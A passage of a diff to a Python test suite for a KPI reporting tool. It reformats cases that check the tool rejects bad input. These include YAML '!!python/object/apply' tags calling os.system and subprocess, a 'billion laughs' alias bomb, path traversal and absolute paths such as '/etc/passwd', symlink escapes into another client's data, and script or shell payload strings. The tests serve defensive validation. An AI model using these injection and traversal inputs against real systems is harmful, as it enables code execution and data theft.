@@ -30,20 +30,14 @@ import os
 import re
 import time
 import traceback
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
-from collections.abc import Callable
 from typing import Any
 
 import numpy as np
 import pandas as pd
 import pytest
-
-from kpi_helpers.run.cli import main
-from kpi_helpers.data.load import DIMENSIONS, load_facts
-from kpi_helpers.compute.engine import compute_kpis
-from kpi_helpers.spec.params import load_params
-
 from conftest import ROOT
 from hostile.builders import (
     HOSTILE_CAMPAIGNS,
@@ -60,6 +54,11 @@ from hostile.builders import (
     revenue_goal,
     xlsx,
 )
+
+from kpi_helpers.compute.engine import compute_kpis
+from kpi_helpers.data.load import DIMENSIONS, load_facts
+from kpi_helpers.run.cli import main
+from kpi_helpers.spec.params import load_params
 
 DOC = ROOT / "docs" / "hostile_inputs.md"
 WRITE_DOC_ENV = "KPI_WRITE_HOSTILE_DOC"  # set by `python -m tests.hostile.write_docs`, never by a plain test run
@@ -225,152 +224,370 @@ NOT_ISO_HINT = 'date_format: "%d-%m-%Y"'
 
 CASES: list[Case] = [
     # ------------------------------------------------------------ columns
-    Case("missing_date_column", "daily CSV whose date column is called `day`", "exit 1; names the file, the "
-         "missing column and the columns in the file",
-         {PARAMS: _params(), "data.csv": "day,orders,revenue\n2025-01-01,3,30\n"}, 1,
-         (("params/acme.yaml:", "data/acme/data.csv", "required column 'date' is missing", "day, orders, revenue"),)),
-    Case("mapped_column_missing", "`columns: {revenue: Omzet}` but the file has `Bedrag`", "exit 1; names the "
-         "mapped column and what the file has",
-         {PARAMS: _params(data=_data(columns={"revenue": "Omzet"})), "data.csv": "date,orders,Bedrag\n2025-01-01,3,30\n"}, 1,
-         (("data/acme/data.csv", "'Omzet'", "not in the file", "Bedrag"),)),
+    Case(
+        "missing_date_column",
+        "daily CSV whose date column is called `day`",
+        "exit 1; names the file, the missing column and the columns in the file",
+        {PARAMS: _params(), "data.csv": "day,orders,revenue\n2025-01-01,3,30\n"},
+        1,
+        (("params/acme.yaml:", "data/acme/data.csv", "required column 'date' is missing", "day, orders, revenue"),),
+    ),
+    Case(
+        "mapped_column_missing",
+        "`columns: {revenue: Omzet}` but the file has `Bedrag`",
+        "exit 1; names the mapped column and what the file has",
+        {
+            PARAMS: _params(data=_data(columns={"revenue": "Omzet"})),
+            "data.csv": "date,orders,Bedrag\n2025-01-01,3,30\n",
+        },
+        1,
+        (("data/acme/data.csv", "'Omzet'", "not in the file", "Bedrag"),),
+    ),
     # ------------------------------------------------------------ dates
-    Case("dutch_dates_without_format", "`31-12-2025` dates, no `date_format`", "exit 1; column, rows and the "
-         'hint `date_format: "%d-%m-%Y"`',
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n30-12-2025,3,30\n31-12-2025,4,40\n"}, 1,
-         (("data/acme/data.csv", "column 'date'", "'31-12-2025'", NOT_ISO_HINT, "rows 2, 3"),)),
-    Case("dutch_dates_with_format", '`31-12-2025` dates with `date_format: "%d-%m-%Y"`', "exit 0; 30 and 31 "
-         "December 2025",
-         {PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
-          "data.csv": "date,orders,revenue\n30-12-2025,3,30\n31-12-2025,4,40\n"}, 0,
-         check=_dates("2025-12-30", "2025-12-31")),
-    Case("iso_dates_with_dutch_format", 'ISO dates but `date_format: "%d-%m-%Y"` declared', "exit 1; names the "
-         "declared format and the rows",
-         {PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
-          "data.csv": "date,orders,revenue\n2025-12-30,3,30\n2025-12-31,4,40\n"}, 1,
-         (("data/acme/data.csv", "column 'date'", '"%d-%m-%Y"', "rows 2, 3"),)),
-    Case("impossible_date", "`2025-02-30`", "exit 1; the value and its row",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-02-28,3,30\n2025-02-30,4,40\n"}, 1,
-         (("data/acme/data.csv", "column 'date'", "'2025-02-30'", "rows 3"),)),
-    Case("date_out_of_range", "`9999-12-31` in a CSV (beyond pandas' datetime range)", "exit 1; the value and "
-         "its row, no traceback",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n9999-12-31,4,40\n"}, 1,
-         (("data/acme/data.csv", "column 'date'", "9999-12-31", "rows 3"),)),
-    Case("mixed_timezone_offsets", "ISO timestamps with different UTC offsets (`+01:00`, `Z`)", "exit 0 with "
-         "wall-clock dates, or exit 1 naming the column; no traceback",
-         {PARAMS: _params(),
-          "data.csv": "date,orders,revenue\n2025-01-01T10:00:00+01:00,3,30\n2025-01-02T10:00:00Z,4,40\n"}, (0, 1),
-         check=_dates("2025-01-01", "2025-01-02")),
-    Case("excel_serial_dates", "`.xlsx` with Excel serial numbers (45658 = 2025-01-01) and a real date cell",
-         "exit 0; serials read as dates",
-         {PARAMS: _params(data=_data(source="data.xlsx")),
-          "data.xlsx": xlsx([["date", "orders", "revenue"], [45658, 3, 30], [45659, 4, 40.5],
-                             [dt.datetime(2025, 1, 3), 5, 50]])}, 0,
-         check=_dates("2025-01-01", "2025-01-02", "2025-01-03")),
-    Case("excel_serial_out_of_range", "`.xlsx` date cells holding 2958465 (Excel's 9999-12-31) and -3",
-         "exit 1; sheet, column and rows; no traceback",
-         {PARAMS: _params(data=_data(source="data.xlsx")),
-          "data.xlsx": xlsx([["date", "orders", "revenue"], [45658, 3, 30], [2958465, 4, 40], [-3, 1, 1]])}, 1,
-         (("data/acme/data.xlsx", "column 'date'", "rows 3, 4"),)),
+    Case(
+        "dutch_dates_without_format",
+        "`31-12-2025` dates, no `date_format`",
+        'exit 1; column, rows and the hint `date_format: "%d-%m-%Y"`',
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n30-12-2025,3,30\n31-12-2025,4,40\n"},
+        1,
+        (("data/acme/data.csv", "column 'date'", "'31-12-2025'", NOT_ISO_HINT, "rows 2, 3"),),
+    ),
+    Case(
+        "dutch_dates_with_format",
+        '`31-12-2025` dates with `date_format: "%d-%m-%Y"`',
+        "exit 0; 30 and 31 December 2025",
+        {
+            PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
+            "data.csv": "date,orders,revenue\n30-12-2025,3,30\n31-12-2025,4,40\n",
+        },
+        0,
+        check=_dates("2025-12-30", "2025-12-31"),
+    ),
+    Case(
+        "iso_dates_with_dutch_format",
+        'ISO dates but `date_format: "%d-%m-%Y"` declared',
+        "exit 1; names the declared format and the rows",
+        {
+            PARAMS: _params(data=_data(date_format="%d-%m-%Y")),
+            "data.csv": "date,orders,revenue\n2025-12-30,3,30\n2025-12-31,4,40\n",
+        },
+        1,
+        (("data/acme/data.csv", "column 'date'", '"%d-%m-%Y"', "rows 2, 3"),),
+    ),
+    Case(
+        "impossible_date",
+        "`2025-02-30`",
+        "exit 1; the value and its row",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-02-28,3,30\n2025-02-30,4,40\n"},
+        1,
+        (("data/acme/data.csv", "column 'date'", "'2025-02-30'", "rows 3"),),
+    ),
+    Case(
+        "date_out_of_range",
+        "`9999-12-31` in a CSV (beyond pandas' datetime range)",
+        "exit 1; the value and its row, no traceback",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n9999-12-31,4,40\n"},
+        1,
+        (("data/acme/data.csv", "column 'date'", "9999-12-31", "rows 3"),),
+    ),
+    Case(
+        "mixed_timezone_offsets",
+        "ISO timestamps with different UTC offsets (`+01:00`, `Z`)",
+        "exit 0 with wall-clock dates, or exit 1 naming the column; no traceback",
+        {
+            PARAMS: _params(),
+            "data.csv": "date,orders,revenue\n2025-01-01T10:00:00+01:00,3,30\n2025-01-02T10:00:00Z,4,40\n",
+        },
+        (0, 1),
+        check=_dates("2025-01-01", "2025-01-02"),
+    ),
+    Case(
+        "excel_serial_dates",
+        "`.xlsx` with Excel serial numbers (45658 = 2025-01-01) and a real date cell",
+        "exit 0; serials read as dates",
+        {
+            PARAMS: _params(data=_data(source="data.xlsx")),
+            "data.xlsx": xlsx(
+                [["date", "orders", "revenue"], [45658, 3, 30], [45659, 4, 40.5], [dt.datetime(2025, 1, 3), 5, 50]]
+            ),
+        },
+        0,
+        check=_dates("2025-01-01", "2025-01-02", "2025-01-03"),
+    ),
+    Case(
+        "excel_serial_out_of_range",
+        "`.xlsx` date cells holding 2958465 (Excel's 9999-12-31) and -3",
+        "exit 1; sheet, column and rows; no traceback",
+        {
+            PARAMS: _params(data=_data(source="data.xlsx")),
+            "data.xlsx": xlsx([["date", "orders", "revenue"], [45658, 3, 30], [2958465, 4, 40], [-3, 1, 1]]),
+        },
+        1,
+        (("data/acme/data.xlsx", "column 'date'", "rows 3, 4"),),
+    ),
     # ------------------------------------------------------------ numbers
-    Case("decimal_comma_undeclared", "`12,50` in a `;` file without `decimal`", 'exit 1; column, rows and the '
-         'hint `decimal: ","`',
-         {PARAMS: _params(), "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";")},
-         1, (("data/acme/data.csv", "column 'revenue'", "'12,50'", 'decimal: ","', "rows 2"),)),
-    Case("decimal_comma_declared", '`12,50` with `decimal: ","`', "exit 0; 12.5",
-         {PARAMS: _params(data=_data(decimal=",")),
-          "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";")}, 0,
-         check=_revenue(12.5, 7.0)),
-    Case("thousands_and_decimal", '`1.234,56` with `decimal: ","` and `thousands: "."`', "exit 0; 1234.56",
-         {PARAMS: _params(data=_data(decimal=",", thousands=".")),
-          "data.csv": csv("date,orders,revenue", "2025-01-01;3;1.234,56", "2025-01-02;4;€ 12.000,00", sep=";")}, 0,
-         check=_revenue(1234.56, 12000.0)),
-    Case("thousands_undeclared", '`1.234,56` with `decimal: ","` only', "exit 1; column, value and row",
-         {PARAMS: _params(data=_data(decimal=",")),
-          "data.csv": csv("date,orders,revenue", "2025-01-01;3;1.234,56", "2025-01-02;4;7", sep=";")}, 1,
-         (("data/acme/data.csv", "column 'revenue'", "'1.234,56'", "rows 2"),)),
-    Case("negative_count", "`orders = -1`", "exit 1; column and row",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,-1,40\n"}, 1,
-         (("data/acme/data.csv", "column 'orders'", "negative", "rows 3"),)),
-    Case("negative_revenue_daily", "daily `revenue = -5` (refund day)", "exit 0 with a warning naming column and "
-         "row; KPIs finite",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,0,-5\n"}, 0,
-         (("warning:", "data/acme/data.csv", "column 'revenue'", "rows 3"),), check=_negative_revenue),
-    Case("nan_measures", "`NaN` and `nan` as measure values", "exit 1; column, value and rows",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,NaN\n2025-01-02,nan,40\n"}, 1,
-         (("data/acme/data.csv", "column 'revenue'", "'NaN'", "rows 2"), ("data/acme/data.csv", "column 'orders'", "rows 3"))),
-    Case("infinite_measures", "`inf`, `-inf` and `1e999` as revenue", "exit 1; column and rows",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,inf\n2025-01-02,4,-inf\n2025-01-03,1,1e999\n"},
-         1, (("data/acme/data.csv", "column 'revenue'", "infinite", "rows 2, 3, 4"),)),
-    Case("sum_overflows", "two days of revenue `1.5e308` (each finite, the sum is not)", "exit 1 naming the "
-         "column, or KPIs flagged n/a; never inf",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,1.5e308\n2025-01-02,4,1.5e308\n"}, (0, 1),
-         check=lambda facts: "loads; KPIs finite or flagged n/a"),
-    Case("duplicate_rows", "the same date twice in a daily file", "exit 1; names the rows and the repeated key",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-01,3,30\n"}, 1,
-         (("data/acme/data.csv", "repeat the same date", "date=2025-01-01", "rows 2, 3"),)),
+    Case(
+        "decimal_comma_undeclared",
+        "`12,50` in a `;` file without `decimal`",
+        'exit 1; column, rows and the hint `decimal: ","`',
+        {PARAMS: _params(), "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";")},
+        1,
+        (("data/acme/data.csv", "column 'revenue'", "'12,50'", 'decimal: ","', "rows 2"),),
+    ),
+    Case(
+        "decimal_comma_declared",
+        '`12,50` with `decimal: ","`',
+        "exit 0; 12.5",
+        {
+            PARAMS: _params(data=_data(decimal=",")),
+            "data.csv": csv("date,orders,revenue", "2025-01-01;3;12,50", "2025-01-02;4;7", sep=";"),
+        },
+        0,
+        check=_revenue(12.5, 7.0),
+    ),
+    Case(
+        "thousands_and_decimal",
+        '`1.234,56` with `decimal: ","` and `thousands: "."`',
+        "exit 0; 1234.56",
+        {
+            PARAMS: _params(data=_data(decimal=",", thousands=".")),
+            "data.csv": csv("date,orders,revenue", "2025-01-01;3;1.234,56", "2025-01-02;4;€ 12.000,00", sep=";"),
+        },
+        0,
+        check=_revenue(1234.56, 12000.0),
+    ),
+    Case(
+        "thousands_undeclared",
+        '`1.234,56` with `decimal: ","` only',
+        "exit 1; column, value and row",
+        {
+            PARAMS: _params(data=_data(decimal=",")),
+            "data.csv": csv("date,orders,revenue", "2025-01-01;3;1.234,56", "2025-01-02;4;7", sep=";"),
+        },
+        1,
+        (("data/acme/data.csv", "column 'revenue'", "'1.234,56'", "rows 2"),),
+    ),
+    Case(
+        "negative_count",
+        "`orders = -1`",
+        "exit 1; column and row",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,-1,40\n"},
+        1,
+        (("data/acme/data.csv", "column 'orders'", "negative", "rows 3"),),
+    ),
+    Case(
+        "negative_revenue_daily",
+        "daily `revenue = -5` (refund day)",
+        "exit 0 with a warning naming column and row; KPIs finite",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-02,0,-5\n"},
+        0,
+        (("warning:", "data/acme/data.csv", "column 'revenue'", "rows 3"),),
+        check=_negative_revenue,
+    ),
+    Case(
+        "nan_measures",
+        "`NaN` and `nan` as measure values",
+        "exit 1; column, value and rows",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,NaN\n2025-01-02,nan,40\n"},
+        1,
+        (
+            ("data/acme/data.csv", "column 'revenue'", "'NaN'", "rows 2"),
+            ("data/acme/data.csv", "column 'orders'", "rows 3"),
+        ),
+    ),
+    Case(
+        "infinite_measures",
+        "`inf`, `-inf` and `1e999` as revenue",
+        "exit 1; column and rows",
+        {
+            PARAMS: _params(),
+            "data.csv": "date,orders,revenue\n2025-01-01,3,inf\n2025-01-02,4,-inf\n2025-01-03,1,1e999\n",
+        },
+        1,
+        (("data/acme/data.csv", "column 'revenue'", "infinite", "rows 2, 3, 4"),),
+    ),
+    Case(
+        "sum_overflows",
+        "two days of revenue `1.5e308` (each finite, the sum is not)",
+        "exit 1 naming the column, or KPIs flagged n/a; never inf",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,1.5e308\n2025-01-02,4,1.5e308\n"},
+        (0, 1),
+        check=lambda facts: "loads; KPIs finite or flagged n/a",
+    ),
+    Case(
+        "duplicate_rows",
+        "the same date twice in a daily file",
+        "exit 1; names the rows and the repeated key",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30\n2025-01-01,3,30\n"},
+        1,
+        (("data/acme/data.csv", "repeat the same date", "date=2025-01-01", "rows 2, 3"),),
+    ),
     # ------------------------------------------------------------ files
-    Case("empty_data_file", "a 0-byte data file", "exit 1; names the file",
-         {PARAMS: _params(), "data.csv": b""}, 1, (("data/acme/data.csv", "empty"),)),
-    Case("header_only_data_file", "a data file with only its header", "exit 1; names the file",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n"}, 1, (("data/acme/data.csv", "no data rows"),)),
-    Case("ragged_rows", "a CSV row with more fields than the header", "exit 1; names the file and the line",
-         {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30,99,98\n2025-01-02,4,40\n"}, 1,
-         (("data/acme/data.csv", "2"),)),
-    Case("binary_file_as_csv", "PNG bytes saved as `data.csv`", "exit 1; names the file",
-         {PARAMS: _params(), "data.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\xff\xfe\x00"}, 1,
-         (("data/acme/data.csv",),)),
-    Case("utf16_csv", "a UTF-16 CSV", "exit 1; names the file and the missing date column",
-         {PARAMS: _params(), "data.csv": SIMPLE.encode("utf-16")}, 1, (("data/acme/data.csv", "'date'"),)),
-    Case("data_outside_period", "`period: 2026` but every row is from 2025", "exit 1: nothing left to report "
-         "on (today: only a warning, then the run fails)",
-         {PARAMS: _params(extra="period: {start: 2026-01-01, end: 2026-12-31}\n"), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "period"),)),
+    Case(
+        "empty_data_file",
+        "a 0-byte data file",
+        "exit 1; names the file",
+        {PARAMS: _params(), "data.csv": b""},
+        1,
+        (("data/acme/data.csv", "empty"),),
+    ),
+    Case(
+        "header_only_data_file",
+        "a data file with only its header",
+        "exit 1; names the file",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n"},
+        1,
+        (("data/acme/data.csv", "no data rows"),),
+    ),
+    Case(
+        "ragged_rows",
+        "a CSV row with more fields than the header",
+        "exit 1; names the file and the line",
+        {PARAMS: _params(), "data.csv": "date,orders,revenue\n2025-01-01,3,30,99,98\n2025-01-02,4,40\n"},
+        1,
+        (("data/acme/data.csv", "2"),),
+    ),
+    Case(
+        "binary_file_as_csv",
+        "PNG bytes saved as `data.csv`",
+        "exit 1; names the file",
+        {PARAMS: _params(), "data.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\xff\xfe\x00"},
+        1,
+        (("data/acme/data.csv",),),
+    ),
+    Case(
+        "utf16_csv",
+        "a UTF-16 CSV",
+        "exit 1; names the file and the missing date column",
+        {PARAMS: _params(), "data.csv": SIMPLE.encode("utf-16")},
+        1,
+        (("data/acme/data.csv", "'date'"),),
+    ),
+    Case(
+        "data_outside_period",
+        "`period: 2026` but every row is from 2025",
+        "exit 1: nothing left to report on (today: only a warning, then the run fails)",
+        {PARAMS: _params(extra="period: {start: 2026-01-01, end: 2026-12-31}\n"), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "period"),),
+    ),
     # ------------------------------------------------------------ params files
-    Case("empty_params_file", "a 0-byte params file", "exit 1; names the file",
-         {PARAMS: b""}, 1, (("params/acme.yaml:", "the file is empty"),)),
-    Case("params_is_a_list", "a params file that is a YAML list", "exit 1; expected a mapping",
-         {PARAMS: "- client: acme\n- name: Acme\n"}, 1, (("params/acme.yaml:", "expected a mapping"),)),
-    Case("yaml_with_tabs", "tab-indented YAML", "exit 1; line, column and a hint about tabs",
-         {PARAMS: "client: acme\nname: Acme\ndata:\n\tsource: data.csv\n", "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "not valid YAML", "line", "tabs"),)),
-    Case("yaml_python_tag", "`name: !!python/object/apply:os.system [touch MARKER]`", "exit 1; not valid "
-         "YAML; nothing runs",
-         {PARAMS: f"client: acme\nname: !!python/object/apply:os.system ['touch {MARKER}']\ndata: demo:webshop\n"}, 1,
-         (("params/acme.yaml:", "not valid YAML", "python/object/apply"),)),
-    Case("yaml_python_tag_in_data", "`source: !!python/object/apply:subprocess.call [[touch, MARKER]]`",
-         "exit 1; not valid YAML; nothing runs",
-         {PARAMS: f"client: acme\nname: Acme\ndata:\n  source: !!python/object/apply:subprocess.call [[touch, '{MARKER}']]\n"},
-         1, (("params/acme.yaml:", "not valid YAML"),)),
-    Case("yaml_alias_bomb", "'billion laughs' YAML aliases (9^8 strings) in `name` and `kpis`", "exit 1 quickly; "
-         "names the fields",
-         {PARAMS: "client: acme\n" + "".join(
-             f"{c}: &{c} [{', '.join(['*' + p] * 9) if p else ', '.join(['lol'] * 9)}]\n"
-             for p, c in zip([""] + list("abcdefg"), "abcdefgh")) + "name: *h\nkpis: *h\ndata: demo:webshop\n"}, 1,
-         (("params/acme.yaml:", "name"), ("params/acme.yaml:", "kpis[0]"))),
-    Case("unknown_kpi", "`kpis: [omzet, revenue]`", "exit 1; field path and the unknown id",
-         {PARAMS: _params(kpis=("omzet", "revenue")), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "kpis[0]", "unknown KPI 'omzet'"),)),
-    Case("target_is_text", '`target: "veel"`', "exit 1; field path, not a number",
-         {PARAMS: _params(goals=[revenue_goal(target="veel")]), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "goals[0].target", "'veel' is not a number"),)),
-    Case("target_is_list", "`target: [1, 2]`", "exit 1; field path, not a number",
-         {PARAMS: _params(goals=[revenue_goal(target=[1, 2])]), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "goals[0].target", "not a number"),)),
-    Case("goal_kpi_not_in_data", "a goal on `conversion_rate`; the data has no `sessions`", "exit 1 naming "
-         "the goal and the missing measure (today validate passes and the run fails)",
-         {PARAMS: _params(goals=[GOAL_SESSIONS]), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "conversion_rate", "sessions"),)),
-    Case("client_id_traversal", "`client: ../escape`", "exit 1; not a valid client id; nothing written",
-         {PARAMS: _params(client="../escape"), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "client:", "'../escape' is not a valid client id"),)),
-    Case("client_id_reserved", "`client: _failed` (the batch's folder for failed runs)", "exit 1; reserved "
-         "id (today accepted: its report would replace reports/_failed/)",
-         {PARAMS: _params(client="_failed"), "data.csv": SIMPLE}, 1,
-         (("params/acme.yaml:", "client"),)),
-    Case("hostile_strings", "quotes, a newline, `<script>`, `{0}` and shell/Python payloads in name, goal "
-         "statement and campaign labels", "exit 0; strings kept verbatim; nothing runs",
-         {PARAMS: _params(name=HOSTILE_NAME, goals=[revenue_goal(statement=HOSTILE_STATEMENT)]),
-          "data.csv": daily_rows(days=90, campaigns=HOSTILE_CAMPAIGNS)}, 0, check=_campaigns),
+    Case(
+        "empty_params_file",
+        "a 0-byte params file",
+        "exit 1; names the file",
+        {PARAMS: b""},
+        1,
+        (("params/acme.yaml:", "the file is empty"),),
+    ),
+    Case(
+        "params_is_a_list",
+        "a params file that is a YAML list",
+        "exit 1; expected a mapping",
+        {PARAMS: "- client: acme\n- name: Acme\n"},
+        1,
+        (("params/acme.yaml:", "expected a mapping"),),
+    ),
+    Case(
+        "yaml_with_tabs",
+        "tab-indented YAML",
+        "exit 1; line, column and a hint about tabs",
+        {PARAMS: "client: acme\nname: Acme\ndata:\n\tsource: data.csv\n", "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "not valid YAML", "line", "tabs"),),
+    ),
+    Case(
+        "yaml_python_tag",
+        "`name: !!python/object/apply:os.system [touch MARKER]`",
+        "exit 1; not valid YAML; nothing runs",
+        {PARAMS: f"client: acme\nname: !!python/object/apply:os.system ['touch {MARKER}']\ndata: demo:webshop\n"},
+        1,
+        (("params/acme.yaml:", "not valid YAML", "python/object/apply"),),
+    ),
+    Case(
+        "yaml_python_tag_in_data",
+        "`source: !!python/object/apply:subprocess.call [[touch, MARKER]]`",
+        "exit 1; not valid YAML; nothing runs",
+        {
+            PARAMS: f"client: acme\nname: Acme\ndata:\n  source: !!python/object/apply:subprocess.call [[touch, '{MARKER}']]\n"
+        },
+        1,
+        (("params/acme.yaml:", "not valid YAML"),),
+    ),
+    Case(
+        "yaml_alias_bomb",
+        "'billion laughs' YAML aliases (9^8 strings) in `name` and `kpis`",
+        "exit 1 quickly; names the fields",
+        {
+            PARAMS: "client: acme\n"
+            + "".join(
+                f"{c}: &{c} [{', '.join(['*' + p] * 9) if p else ', '.join(['lol'] * 9)}]\n"
+                for p, c in zip([""] + list("abcdefg"), "abcdefgh")
+            )
+            + "name: *h\nkpis: *h\ndata: demo:webshop\n"
+        },
+        1,
+        (("params/acme.yaml:", "name"), ("params/acme.yaml:", "kpis[0]")),
+    ),
+    Case(
+        "unknown_kpi",
+        "`kpis: [omzet, revenue]`",
+        "exit 1; field path and the unknown id",
+        {PARAMS: _params(kpis=("omzet", "revenue")), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "kpis[0]", "unknown KPI 'omzet'"),),
+    ),
+    Case(
+        "target_is_text",
+        '`target: "veel"`',
+        "exit 1; field path, not a number",
+        {PARAMS: _params(goals=[revenue_goal(target="veel")]), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "goals[0].target", "'veel' is not a number"),),
+    ),
+    Case(
+        "target_is_list",
+        "`target: [1, 2]`",
+        "exit 1; field path, not a number",
+        {PARAMS: _params(goals=[revenue_goal(target=[1, 2])]), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "goals[0].target", "not a number"),),
+    ),
+    Case(
+        "goal_kpi_not_in_data",
+        "a goal on `conversion_rate`; the data has no `sessions`",
+        "exit 1 naming the goal and the missing measure (today validate passes and the run fails)",
+        {PARAMS: _params(goals=[GOAL_SESSIONS]), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "conversion_rate", "sessions"),),
+    ),
+    Case(
+        "client_id_traversal",
+        "`client: ../escape`",
+        "exit 1; not a valid client id; nothing written",
+        {PARAMS: _params(client="../escape"), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "client:", "'../escape' is not a valid client id"),),
+    ),
+    Case(
+        "client_id_reserved",
+        "`client: _failed` (the batch's folder for failed runs)",
+        "exit 1; reserved id (today accepted: its report would replace reports/_failed/)",
+        {PARAMS: _params(client="_failed"), "data.csv": SIMPLE},
+        1,
+        (("params/acme.yaml:", "client"),),
+    ),
+    Case(
+        "hostile_strings",
+        "quotes, a newline, `<script>`, `{0}` and shell/Python payloads in name, goal statement and campaign labels",
+        "exit 0; strings kept verbatim; nothing runs",
+        {
+            PARAMS: _params(name=HOSTILE_NAME, goals=[revenue_goal(statement=HOSTILE_STATEMENT)]),
+            "data.csv": daily_rows(days=90, campaigns=HOSTILE_CAMPAIGNS),
+        },
+        0,
+        check=_campaigns,
+    ),
 ]
 
 # ---------------------------------------------------------------- trust between clients (issue 16)
@@ -403,92 +620,225 @@ def _nested(depth: int) -> str:
 
 TRUST_CASES: list[Case] = [
     # ------------------------------------------------------------ confinement: one data folder per client
-    Case("source_other_clients_file", "`source: ../victim/data.csv` (another client's data folder)", "exit 1; "
-         "refused ('..'), names the source and the client's own folder; nothing of the victim's file shown",
-         {PARAMS: _params(data=_data(source="../victim/data.csv")), **VICTIM}, 1,
-         (("params/acme.yaml:", "../victim/data.csv", REFUSED, "'..'", OWN_FOLDER),), forbidden=(SECRET,)),
-    Case("source_absolute_path", "`source: /etc/passwd`", "exit 1; refused (absolute path); no line of the file "
-         "echoed", {PARAMS: _params(data=_data(source="/etc/passwd"))}, 1,
-         (("params/acme.yaml:", "/etc/passwd", REFUSED, "absolute path"),), forbidden=("root:", "/bin/")),
-    Case("source_home_path", "`source: ~/secret.csv`", "exit 1; refused (absolute path)",
-         {PARAMS: _params(data=_data(source="~/secret.csv"))}, 1,
-         (("params/acme.yaml:", REFUSED, "absolute path"),)),
-    Case("source_params_folder", "`source: ../../params/victim.yaml` (the params folder is not a data folder)",
-         "exit 1; refused ('..')", {PARAMS: _params(data=_data(source="../../params/victim.yaml")), **VICTIM}, 1,
-         (("params/acme.yaml:", REFUSED, "'..'"),), forbidden=(SECRET,)),
-    Case("source_symlink_to_other_client", "`data/acme/data.csv` is a symlink to `data/victim/data.csv`",
-         "exit 1; refused (symlink pointing out); victim's data not shown",
-         {PARAMS: _params(), **VICTIM, "data.csv": _symlink("data/victim/data.csv")}, 1,
-         (("params/acme.yaml:", "data.csv", REFUSED, "symlink"),), forbidden=(SECRET,)),
-    Case("source_symlink_dir_out", "`data/acme/shared` is a symlink to a folder outside, `source: shared/x.csv`",
-         "exit 1; refused (leads outside)",
-         {PARAMS: _params(data=_data(source="shared/x.csv")), "outside/x.csv": SECRET_CSV,
-          "data/acme/shared": _symlink("outside")}, 1,
-         (("params/acme.yaml:", "shared/x.csv", REFUSED, "outside"),), forbidden=(SECRET,)),
-    Case("source_dev_zero", "`source: /dev/zero` and a `data.csv` symlink to it", "exit 1 at once; both refused, "
-         "memory stays flat",
-         {PARAMS: _params(data='[{source: /dev/zero}, {source: zero.csv}]'),
-          "zero.csv": _symlink("/dev/zero")}, 1,
-         (("params/acme.yaml:", "/dev/zero", REFUSED), ("params/acme.yaml:", "zero.csv", REFUSED))),
-    Case("source_fifo", "`data/acme/data.csv` is a FIFO (a reader would wait forever)", "exit 1 at once; refused "
-         "(not a regular file)", {PARAMS: _params(), "data.csv": _fifo}, 1,
-         (("params/acme.yaml:", "data.csv", REFUSED, "FIFO"),)),
-    Case("source_dev_stdin", "`source: /dev/stdin`", "exit 1 at once; refused (absolute path)",
-         {PARAMS: _params(data=_data(source="/dev/stdin"))}, 1, (("params/acme.yaml:", "/dev/stdin", REFUSED),)),
-    Case("source_in_own_folder", "`source: sub/data.csv` inside `data/acme/`", "exit 0; read from the client's "
-         "own folder", {PARAMS: _params(data=_data(source="sub/data.csv")), "data/acme/sub/data.csv": SIMPLE}, 0,
-         check=_revenue(30.5, 40.0)),
-    Case("data_root_in_agency_file", "`params/_agency.yaml` sets `data_root: ../klantdata`", "exit 0; "
-         "`klantdata/acme/data.csv` is read",
-         {PARAMS: _params(), "_agency.yaml": "data_root: ../klantdata\n", "klantdata/acme/data.csv": SIMPLE}, 0,
-         check=_revenue(30.5, 40.0)),
-    Case("data_root_flag", "`validate --data-root {root}/elders` with the data in `elders/acme/`", "exit 0; read "
